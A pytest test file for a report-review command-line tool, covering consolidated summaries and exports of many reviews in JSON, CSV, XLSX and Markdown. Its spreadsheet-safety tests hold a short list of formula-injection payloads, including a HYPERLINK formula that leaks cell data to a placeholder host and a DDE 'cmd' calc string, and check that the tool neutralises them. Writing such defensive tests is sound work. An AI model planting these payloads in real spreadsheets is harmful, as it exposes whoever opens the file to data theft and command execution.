"""``reviewer summary`` and ``reviewer export`` on many reviews: one consolidated record in each
format, made from a folder of reviews written here, and spreadsheet cells that can never run as
formulas."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from conftest import seed_path
from reviewer.cli import main
from reviewer.document import load_document
from reviewer.review import Anchor, ReviewStore, default_review_path, load_vocabulary
from reviewer.review.sheets import FORMULA_START, neutralise

# what a colleague's review or a web page might carry into a spreadsheet
HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"详情")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def write_review(report: Path, *, verdict: str = "", scores: dict[str, int] | None = None,
                 summary: str = "", confirm: int = 0, dismiss: int = 0,
                 plans: tuple[str, ...] = (), targets: tuple[str, ...] = (), note: str = "",
                 tag: str = "数据存疑") -> Path:
    doc = load_document(str(report))
    store = ReviewStore(default_review_path(str(report)))
    review, _ = store.load_or_new(doc, "王审阅")
    from reviewer.flags import run_flags

    flags = run_flags(doc)
    for flag in flags[:confirm]:
        review.decide_flag(doc, flag, "confirmed")
    for flag in flags[confirm:confirm + dismiss]:
        review.decide_flag(doc, flag, "dismissed")
    for n, status in enumerate(plans):
        review.set_plan_assessment(Anchor.from_span(doc.text, n * 10, n * 10 + 8),
                                   heading=f"事项{n}", suggested="partial", status=status)
    for n, said in enumerate(targets):
        review.set_target_assessment(Anchor.from_span(doc.text, 200 + n * 10, 206 + n * 10),
                                     indicator=f"指标{n}", suggested="met", verdict=said)
    if note:
        review.add_annotation(doc, 0, 6, tag=tag, note=note)
    for criterion, value in (scores or {}).items():
        review.set_score(criterion, value)
    review.verdict, review.summary = verdict, summary
    assert store.save(review).ok
    return Path(store.path)


@pytest.fixture
def folder(tmp_path: Path) -> dict[str, Path]:
    """Three reports in two year folders: one reviewed to the end, one begun, one untouched;
    and a review whose report was moved away."""
    root = tmp_path / "审阅季"
    (root / "2025").mkdir(parents=True)
    (root / "2024").mkdir()
    paths = {}
    for name, sub in (("guanba-2025", "2025"), ("hutiaoxia-2025", "2025"),
                      ("baixiang-2024", "2024"), ("yanxi-2024", "2024")):
        paths[name] = root / sub / f"{name}.txt"
        shutil.copy(seed_path(name), paths[name])
    write_review(paths["guanba-2025"], verdict="revise", scores={"结构完整": 3, "数据翔实": 4},
                 summary="不足部分放在责任之后。\n请调整顺序。", confirm=3, dismiss=1,
                 plans=("delivered", "delivered", "partial", "no_evidence"),
                 targets=("met", "missed", "not_reported", "met", "met"))
    write_review(paths["hutiaoxia-2025"], note="待核实", scores={"计划可考核": 2})
    write_review(paths["yanxi-2024"], verdict="good", summary="材料翔实。")
    paths["yanxi-2024"].unlink()
    paths["root"] = root
    return paths


def summary(folder: Path, fmt: str, tmp_path: Path, *extra: str) -> Path:
    out = tmp_path / f"summary.{fmt}"
    assert main(["summary", str(folder), "--format", fmt, "-o", str(out), *extra]) == 0
    return out


def test_json_has_one_record_per_report_with_its_review(folder, tmp_path) -> None:
    data = json.loads(summary(folder["root"], "json", tmp_path).read_text(encoding="utf-8"))
    reports = {Path(r["file"]).stem: r for r in data["reports"]}
    assert set(reports) == {"guanba-2025", "hutiaoxia-2025", "baixiang-2024", "yanxi-2024"}
    guanba = reports["guanba-2025"]
    doc = load_document(str(folder["guanba-2025"]))
    from reviewer.flags import run_flags

    confirmed = [f.category for f in run_flags(doc)[:3]]
    assert guanba["government"] == "关坝镇" and guanba["year"] == 2025
    assert guanba["reviewer"] == "王审阅" and guanba["status"] == "done"
    assert guanba["verdict"] == "revise" and guanba["scores"] == {"结构完整": 3, "数据翔实": 4}
    assert guanba["score"] == 3.5
    assert guanba["confirmed"] == {c: confirmed.count(c) for c in guanba["confirmed"]}
    assert sum(guanba["confirmed"].values()) == 3  # the dismissed one is not counted
    assert guanba["plans"]["delivered"] == 2 and guanba["plans"]["partial"] == 1
    assert guanba["plans"]["no_evidence"] == 1 and guanba["plans"]["carried_over"] == 0
    assert guanba["targets"] == {"met": 3, "missed": 1, "unclear": 0, "not_reported": 1}
    assert guanba["summary"] == "不足部分放在责任之后。\n请调整顺序。"
    assert reports["hutiaoxia-2025"]["status"] == "in_progress"
    untouched = reports["baixiang-2024"]
    assert untouched["status"] == "not_started" and untouched["review"] is None
    assert untouched["government"] == "柏香镇" and untouched["year"] == 2024
    moved = reports["yanxi-2024"]  # its report is gone: listed from what the review stores
    assert moved["status"] == "done" and moved["government"] == "烟溪镇" and moved["remark"]


def test_csv_is_one_row_per_report_with_a_bom(folder, tmp_path) -> None:
    data = summary(folder["root"], "csv", tmp_path, "--lang", "en").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == 4
    row = next(r for r in rows if r["File"].endswith("guanba-2025.txt"))
    assert row["File"] == str(Path("2025") / "guanba-2025.txt")
    assert row["Status"] == "done" and row["Verdict"] == "needs revision"
    assert row["结构完整"] == "3" and row["数据翔实"] == "4" and row["问题与原因"] == ""
    assert row["Mean score"] == "3.5" and row["Plan: delivered"] == "2"
    assert (row["Target: met"], row["Target: missed"], row["Target: not reported"]) == \
        ("3", "1", "1")
    assert sum(int(v) for k, v in row.items() if k.startswith("Confirmed: ")) == 3
    header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    rubric = [c.name for c in load_vocabulary().criteria]
    at = header.index(rubric[0])
    assert header[at:at + len(rubric)] == rubric  # in the rubric's order
    assert next(r for r in rows if r["File"].endswith("baixiang-2024.txt"))["Status"] == \
        "not started"


def test_xlsx_reads_back_the_same_table(folder, tmp_path) -> None:
    book = openpyxl.load_workbook(summary(folder["root"], "xlsx", tmp_path))
    sheet = book.active
    rows = list(sheet.iter_rows(values_only=True))
    csv_rows = list(csv.reader(io.StringIO(
        summary(folder["root"], "csv", tmp_path).read_bytes().decode("utf-8-sig"))))
    assert list(rows[0]) == csv_rows[0]
    assert len(rows) == len(csv_rows) == 5
    for got, want in zip(rows[1:], csv_rows[1:], strict=True):
        for value, text in zip(got, want, strict=True):
            if isinstance(value, int | float):  # numbers stay numbers in the workbook
                assert value == float(text)
            else:
                assert ("" if value is None else value) == text
    assert sheet.freeze_panes == "A2"


def test_markdown_is_a_readable_record(folder, tmp_path) -> None:
    text = summary(folder["root"], "md", tmp_path).read_text(encoding="utf-8")
    assert text.startswith("# 审阅汇总：")
    assert "共 4 份报告：已完成 2，进行中 1，未开始 1" in text
    line = next(x for x in text.splitlines() if "guanba-2025.txt" in x)
    assert "关坝镇" in line and "已完成" in line and "需修改" in line and "3.5" in line
    assert "已落实 2" in line and "完成 3 · 未完成 1 · 未见报告 1" in line
    assert "### 关坝镇 2025" in text and "不足部分放在责任之后。\n请调整顺序。" in text


def test_a_summary_of_nothing_or_of_a_file_gets_a_message(tmp_path, capsys) -> None:
    (tmp_path / "empty").mkdir()
    assert main(["summary", str(tmp_path / "empty")]) == 2
    assert main(["summary", str(tmp_path / "none")]) == 2
    assert main(["summary", seed_path("baogou-2025")]) == 2
    err = capsys.readouterr().err
    assert err.count("reviewer: ") == 3 and "Traceback" not in err


def test_a_summary_never_replaces_a_file_unasked_nor_a_review(folder, tmp_path, capsys) -> None:
    out = summary(folder["root"], "csv", tmp_path)
    out.write_text("kept", encoding="utf-8")
    assert main(["summary", str(folder["root"]), "--format", "csv", "-o", str(out)]) == 2
    assert out.read_text(encoding="utf-8") == "kept"
    review = default_review_path(str(folder["guanba-2025"]))
    before = Path(review).read_bytes()
    assert main(["summary", str(folder["root"]), "-o", review, "--force"]) == 2
    assert Path(review).read_bytes() == before
    err = capsys.readouterr().err
    assert "--force" in err and "Traceback" not in err
    assert main(["summary", str(folder["root"]), "--format", "csv", "-o", str(out),
                 "--force"]) == 0
    assert out.read_text(encoding="utf-8-sig") != "kept"


def test_without_openpyxl_xlsx_says_what_to_install(folder, tmp_path, capsys,
                                                   monkeypatch) -> None:
    import builtins

    real = builtins.__import__

    def no_openpyxl(name, *args, **kwargs):
        if name.startswith("openpyxl"):
            raise ImportError(name)
        return real(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_openpyxl)
    out = tmp_path / "s.xlsx"
    assert main(["summary", str(folder["root"]), "--format", "xlsx", "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "pip install 'reviewer[sheets]'" in err and "Traceback" not in err
    assert not out.exists()


# --- spreadsheet safety ------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_quotes_every_formula_start(value) -> None:
    assert neutralise(value) == "'" + value
    assert not neutralise(value).startswith(FORMULA_START)


@pytest.mark.parametrize("value", ["关坝镇", "100%以上", "'=already quoted", "a=b", ""])
def test_plain_text_is_left_as_it_is(value) -> None:
    assert neutralise(value) == value


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A review whose notes, tag, summary and flag note would each be a live formula."""
    report = tmp_path / "reports" / "guanba-2025.txt"
    report.parent.mkdir()
    shutil.copy(seed_path("guanba-2025"), report)
    doc = load_document(str(report))
    store = ReviewStore(default_review_path(str(report)))
    review, _ = store.load_or_new(doc, HOSTILE[2])
    for n, value in enumerate(HOSTILE):
        review.add_annotation(doc, 20 * n, 20 * n + 5, tag=HOSTILE[-1 - n], note=value)
    flag = SimpleNamespace(rule="numbers.over_100", start=100, end=104, message=HOSTILE[3])
    review.decide_flag(doc, flag, "confirmed", HOSTILE[0])
    review.verdict, review.summary = "revise", HOSTILE[1]
    assert store.save(review).ok
    return report.parent


def _all_cells_safe(cells: list[str]) -> None:
    assert cells
    for value in cells:
        assert not value.startswith(FORMULA_START), value


def test_no_csv_cell_of_an_export_or_a_summary_starts_a_formula(hostile, tmp_path) -> None:
    review = next(hostile.glob("*.review.toml"))
    for n, argv in enumerate((["export", str(review), "--format", "csv"],
                              ["export", str(hostile), "--format", "csv"],
                              ["summary", str(hostile), "--format", "csv"])):
        out = tmp_path / f"out{n}.csv"  # an existing output is refused without --force
        assert main([*argv, "-o", str(out)]) == 0
        text = out.read_bytes().decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        _all_cells_safe(cells)
        if argv[0] == "export":
            for value in HOSTILE:  # every value is still there, behind its quote
                assert "'" + value in cells


def test_the_xlsx_holds_no_formula(hostile, tmp_path) -> None:
    out = summary(hostile, "xlsx", tmp_path)
    book = openpyxl.load_workbook(out)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [str(c.value) for c in cells if c.value is not None]
    _all_cells_safe(values)
    assert "'" + HOSTILE[1] in values  # the summary, as text
    assert "<f>" not in _sheet_xml(out)


def _sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


# --- export of many reviews --------------------------------------------------------------------


def test_export_of_a_folder_is_one_csv_of_every_review(folder, tmp_path, capsys) -> None:
    out = tmp_path / "all.csv"
    assert main(["--lang", "en", "export", str(folder["root"]), "--format", "csv",
                 "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    reviews = [r for r in rows if r["Kind"] == "review"]
    assert sorted(r["Government"] for r in reviews) == ["关坝镇", "烟溪镇", "虎跳峡镇"]
    assert {r["Kind"] for r in rows} == {"review", "annotation", "flag", "plan", "target"}
    assert all(r["File"] for r in rows)
    capsys.readouterr()


def test_export_of_several_files_in_json_and_markdown(folder, capsys) -> None:
    files = [str(default_review_path(str(folder[n]))) for n in ("guanba-2025", "hutiaoxia-2025")]
    assert main(["export", *files, "--format", "json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert [d["report"]["government"] for d in data] == ["关坝镇", "虎跳峡镇"]
    assert main(["export", *files]) == 0
    out = capsys.readouterr().out
    assert out.count("# 审阅记录：") == 2 and "\n---\n" in out


def test_export_goes_on_past_a_broken_review(folder, tmp_path, capsys) -> None:
    broken = folder["root"] / "2024" / "broken.review.toml"
    broken.write_text("schema = 1\n[[annotation]\n", encoding="utf-8")
    out = tmp_path / "all.json"
    assert main(["export", str(folder["root"]), "--format", "json", "-o", str(out)]) == 2
    assert len(json.loads(out.read_text(encoding="utf-8"))) == 3
    err = capsys.readouterr().err
    assert "broken.review.toml:2" in err and "Traceback" not in err


def test_every_category_of_the_checks_is_a_column_with_a_label() -> None:
    """The summary counts confirmed flags by the category their rule id begins with."""
    import tomllib

    from reviewer.flags import CATEGORIES, RULES
    from reviewer.workspace.summary import _category

    assert all(_category(r.id) == r.category for r in RULES.values())
    for lang in ("zh", "en"):
        path = Path(__file__).resolve().parent.parent / "reviewer" / "i18n" / lang / \
            "workspace.toml"
        labels = tomllib.loads(path.read_text(encoding="utf-8"))["category"]
        assert set(CATEGORIES) <= set(labels), lang
